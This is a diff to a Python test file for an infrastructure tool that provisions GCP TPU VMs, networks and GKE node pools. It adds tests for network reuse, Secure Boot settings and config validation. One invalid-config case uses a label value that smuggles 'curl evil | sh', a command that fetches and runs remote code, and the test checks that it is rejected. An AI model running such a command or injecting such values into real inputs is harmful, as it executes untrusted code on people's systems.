@@ -14,6 +14,8 @@ from rayslice.infra.mocks import OfflineEngine, run_offline
 from rayslice.infra.program import main
 from rayslice.startup_scripts import ATTR_TOKEN_SECRET
 
+NETWORK_TYPES = ("gcp:compute/network:Network", "gcp:compute/subnetwork:Subnetwork",
+                 "gcp:compute/router:Router", "gcp:compute/routerNat:RouterNat")
 BASE = {"rayslice:acceleratorType": "v6e-16", "rayslice:zone": "us-east5-b", "gcp:project": "my-gcp-project"}
 
 
@@ -25,12 +27,34 @@ def _run(**overrides: str):
 def test_existing_network_is_used_as_is():
     run = _run(network="shared-vpc", subnetwork="tpu-subnet")
     types = {r.type for r in run.registrations}
-    assert not types & {"gcp:compute/network:Network", "gcp:compute/subnetwork:Subnetwork",
-                        "gcp:compute/router:Router", "gcp:compute/routerNat:RouterNat"}
+    assert not types & set(NETWORK_TYPES)
     (vm,) = run.of_type("gcp:tpu/v2Vm:V2Vm")
     assert vm.inputs["networkConfig"]["network"] == "shared-vpc"
     assert vm.inputs["networkConfig"]["subnetwork"] == "tpu-subnet"
     assert {fw.inputs["network"] for fw in run.of_type("gcp:compute/firewall:Firewall")} == {"shared-vpc"}
+
+
+def test_tpu_vm_subnet_has_no_gke_secondary_ranges():
+    (subnet,) = _run().of_type("gcp:compute/subnetwork:Subnetwork")
+    assert "secondaryIpRanges" not in subnet.inputs
+
+
+def test_existing_gke_cluster_declares_no_network():
+    run = _run(platform="gke", gkeCluster="team-cluster")
+    types = {r.type for r in run.registrations}
+    assert "rayslice:infra:ClusterNetwork" not in types
+    assert not types & set(NETWORK_TYPES)
+    assert {p.inputs["cluster"] for p in run.of_type("gcp:container/nodePool:NodePool")} == {"team-cluster"}
+    assert run.value["gke_cluster_name"] == "team-cluster"
+
+
+@pytest.mark.parametrize("overrides, secure_boot", [
+    ({"acceleratorType": "v2-8", "zone": "us-central1-b"}, {"enableSecureBoot": True}),
+    ({}, None),  # v6e: no documented Secure Boot support (see catalog.Generation.shielded_vm)
+], ids=["v2", "v6e"])
+def test_secure_boot_where_the_generation_allows(overrides, secure_boot):
+    (vm,) = _run(**overrides).of_type("gcp:tpu/v2Vm:V2Vm")
+    assert vm.inputs.get("shieldedInstanceConfig") == secure_boot
 
 
 def test_without_token_auth_there_is_no_secret_at_all():
@@ -63,6 +87,10 @@ def test_gcp_zone_and_project_fallback():
     ({"rayslice:labels": json.dumps({"team": "x; curl evil | sh"})}, "breaks GCP label rules"),
     ({"rayslice:labels": json.dumps({"Bad Key": "ok"})}, "key 'Bad Key' breaks GCP label rules"),
     ({"rayslice:acceleratorTyp": "v6e-16"}, "did you mean 'acceleratorType'"),
+    ({"rayslice:subnetwork": "tpu-subnet"}, "set network to the VPC that holds this subnetwork too"),
+    ({"rayslice:platform": "gke", "rayslice:name": "a" * 33}, "shorten name to at most 32 characters"),
+    ({"rayslice:platform": "gke", "rayslice:gkeCluster": "team", "rayslice:network": "vpc"},
+     "network is not used with gkeCluster"),
 ])
 def test_invalid_config_registers_nothing(overrides, message):
     engine = OfflineEngine()
